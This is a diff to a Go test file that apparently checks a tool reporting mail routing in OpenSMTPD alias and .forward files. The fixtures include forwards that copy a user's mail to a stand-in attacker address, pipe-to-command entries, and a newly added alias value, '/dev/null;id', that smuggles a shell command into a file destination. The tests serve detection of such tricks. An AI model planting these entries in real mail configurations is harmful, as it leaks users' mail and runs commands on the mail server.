@@ -92,6 +92,8 @@ func TestHooks(t *testing.T) {
 		{"aliases", "", map[string]string{"/etc/aliases": "alice: alice, drop@evil.example.net\nsvc: \"|/bin/x -a\"\nf: /var/x\nno: error:550 gone\nnull: /dev/null\nx@y: bob\n"},
 			"alias copy address:drop@evil.example.net remote [recipient alice]\nalias discard file:/dev/null as opensmtpd [recipient null]\nalias pipe command:/bin/x -a as opensmtpd [recipient svc]\n" +
 				"alias redirect address:alice [recipient alice]\nalias redirect address:bob [recipient x@y] inactive: a table of aliases is asked for user names, and this has a domain\nalias redirect file:/var/x as opensmtpd [recipient f]"},
+		{"a file that is a command", "", map[string]string{"/etc/aliases": "x: /dev/null;id\n"},
+			"alias pipe command:/usr/libexec/opensmtpd/mail.mboxfile /dev/null;id as opensmtpd [recipient x]"},
 		{"forward", "", map[string]string{"/home/alice/.forward": "# c\nalice\ndrop@evil.example.net, |/home/alice/x # hidden\n"},
 			".forward copy address:drop@evil.example.net remote [recipient alice]\n.forward pipe command:/home/alice/x as alice [recipient alice]\n.forward redirect address:alice [recipient alice]"},
 		{"forward of somebody else", "", map[string]string{"/home/bob/.forward": "x@evil.example\n"},
